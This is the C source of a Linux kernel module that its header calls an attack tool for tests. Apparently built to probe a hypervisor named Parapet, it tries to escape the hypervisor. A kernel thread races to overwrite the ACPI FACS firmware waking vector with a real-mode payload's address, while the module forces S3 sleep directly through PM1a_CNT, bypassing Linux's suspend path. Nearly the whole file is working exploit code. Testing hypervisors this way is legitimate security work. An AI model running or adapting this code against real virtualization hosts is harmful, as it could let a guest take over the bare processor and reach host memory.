// SPDX-License-Identifier: GPL-2.0
/*
 * parapet_guest: /proc/parapet/s3race (mode 0200), an attack tool for tests.
 *
 * A guest that could make the firmware wake it from S3 at a vector of its own choosing, with
 * nothing in between, would run on the bare processor with the hypervisor's memory in reach.
 * Writing "go" tries that the hard way, bypassing Linux's suspend path:
 *   - the real-mode payload of sipi_payload.S goes to PARAPET_SIPI_PAGE (it records CPUID's
 *     SVM bit and the result of VMMCALL VERSION there, then halts);
 *   - a kernel thread on another online CPU writes the payload's address into the FACS's
 *     Firmware_Waking_Vector (and clears X_Firmware_Waking_Vector) in a tight loop, counting
 *     its writes at PARAPET_S3RACE_COUNT in the payload page, so the vector is the attacker's
 *     whenever anyone looks, even right after the hypervisor writes its own;
 *   - this CPU, interrupts off, writes the same vector and then PM1a_CNT with the \_S3 sleep
 *     type and SLP_EN itself.
 * The machine sleeps; the test wakes it and reads the payload page through the QEMU monitor:
 * svm=0 and the hypervisor's magic after VMMCALL mean the processor woke under Parapet.
 * If the write returns, the sleep did not happen (the hypervisor refused it): the racer is
 * stopped, the vector restored, and the write fails with -EAGAIN. -ENODEV: no FADT, FACS,
 * \_S3, or no second online CPU.
 */
#include <linux/acpi.h>
#include <linux/cpumask.h>
#include <linux/delay.h>
#include <linux/errno.h>
#include <linux/io.h>
#include <linux/kthread.h>
#include <linux/proc_fs.h>
#include <linux/sched.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <asm/special_insns.h>

#include "parapet.h"
#include "sipi_payload.h"

#define PARAPET_S3RACE_COUNT 0x220 /* the racer's write count, in the payload page */
#define PM1_STS_WAK (1u << 15)     /* ACPI §4.8.3.1.1 */
#define PM1_CNT_SLP_TYP (7u << 10) /* ACPI §4.8.3.2.1 */
#define PM1_CNT_SLP_EN (1u << 13)
#define FACS_WAKING_VECTOR 12
#define FACS_X_WAKING_VECTOR 24

extern const u8 parapet_sipi_payload[], parapet_sipi_payload_end[];

static volatile bool racer_stop;

struct race {
	u8 *facs;
	u32 *count;
	bool x_vector;
};

static int racer(void *arg)
{
	struct race *r = arg;
	u32 n = 0;
	while (!READ_ONCE(racer_stop)) {
		WRITE_ONCE(*(u32 *)(r->facs + FACS_WAKING_VECTOR), PARAPET_SIPI_PAGE);
		if (r->x_vector)
			WRITE_ONCE(*(u64 *)(r->facs + FACS_X_WAKING_VECTOR), 0);
		WRITE_ONCE(*r->count, ++n);
		cpu_relax();
	}
	return 0;
}

static ssize_t s3race_write(struct file *file, const char __user *buf, size_t len, loff_t *off)
{
	struct acpi_table_header *h;
	struct acpi_table_fadt *fadt;
	static struct race r;
	struct task_struct *t;
	u8 typa, typb;
	u8 *page;
	u32 saved_vec;
	u64 facs;
	u16 cnt;
	int me, cpu, ret = -EAGAIN;
	unsigned long flags;

	if (ACPI_FAILURE(acpi_get_table(ACPI_SIG_FADT, 1, &h)))
		return -ENODEV;
	fadt = (struct acpi_table_fadt *)h;
	/* X_FIRMWARE_CTRL only where the table is long enough to have it (pc's FADT is revision 1). */
	facs = h->length >= offsetof(struct acpi_table_fadt, Xdsdt) && fadt->Xfacs ? fadt->Xfacs : fadt->facs;
	if (!fadt->pm1a_control_block || !facs || ACPI_FAILURE(acpi_get_sleep_type_data(ACPI_STATE_S3, &typa, &typb)))
		return -ENODEV;
	r.facs = NULL;
	page = NULL;
	/* This task stays on its CPU; the racer goes to another. */
	me = raw_smp_processor_id();
	if (set_cpus_allowed_ptr(current, cpumask_of(me)))
		return -EAGAIN;
	cpu = cpumask_any_but(cpu_online_mask, me);
	ret = -ENODEV;
	if (cpu >= nr_cpu_ids)
		goto out;
	/* The FACS is in ACPI NVS, not RAM: memremap refuses it. */
	r.facs = (u8 __force *)ioremap_cache(facs, 64);
	page = memremap(PARAPET_SIPI_PAGE, PAGE_SIZE, MEMREMAP_WB);
	ret = -ENOMEM;
	if (!r.facs || !page)
		goto out;
	r.x_vector = r.facs[32] >= 1 && *(u32 *)(r.facs + 4) >= 40;
	memset(page, 0, PAGE_SIZE);
	memcpy(page, parapet_sipi_payload, parapet_sipi_payload_end - parapet_sipi_payload);
	r.count = (u32 *)(page + PARAPET_S3RACE_COUNT);
	saved_vec = *(u32 *)(r.facs + FACS_WAKING_VECTOR);
	wbinvd();

	WRITE_ONCE(racer_stop, false);
	t = kthread_create(racer, &r, "parapet-s3race");
	ret = PTR_ERR_OR_ZERO(t);
	if (ret)
		goto out;
	kthread_bind(t, cpu);
	wake_up_process(t);
	while (!READ_ONCE(*r.count))
		cpu_relax();

	local_irq_save(flags);
	*(u32 *)(r.facs + FACS_WAKING_VECTOR) = PARAPET_SIPI_PAGE;
	outw(PM1_STS_WAK, fadt->pm1a_event_block);
	cnt = inw(fadt->pm1a_control_block) & ~(PM1_CNT_SLP_TYP | PM1_CNT_SLP_EN);
	cnt |= (u16)typa << 10;
	wbinvd();
	outw(cnt, fadt->pm1a_control_block);
	outw(cnt | PM1_CNT_SLP_EN, fadt->pm1a_control_block);
	/* Still running: no sleep happened. */
	mdelay(100);
	local_irq_restore(flags);
	WRITE_ONCE(racer_stop, true);
	kthread_stop(t);
	*(u32 *)(r.facs + FACS_WAKING_VECTOR) = saved_vec;
	pr_info("parapet_guest: s3race: no sleep (racer wrote %u times); WAK_STS %u\n", *r.count,
	    !!(inw(fadt->pm1a_event_block) & PM1_STS_WAK));
	ret = -EAGAIN;
out:
	set_cpus_allowed_ptr(current, cpu_possible_mask);
	if (page)
		memunmap(page);
	if (r.facs)
		iounmap((void __iomem *)r.facs);
	(void)buf;
	(void)off;
	(void)file;
	return ret ? ret : (ssize_t)len;
}

static const struct proc_ops s3race_ops = {
	.proc_write = s3race_write,
};

int parapet_s3race_init(struct proc_dir_entry *dir)
{
	return proc_create("s3race", 0200, dir, &s3race_ops) ? 0 : -ENOMEM;
}
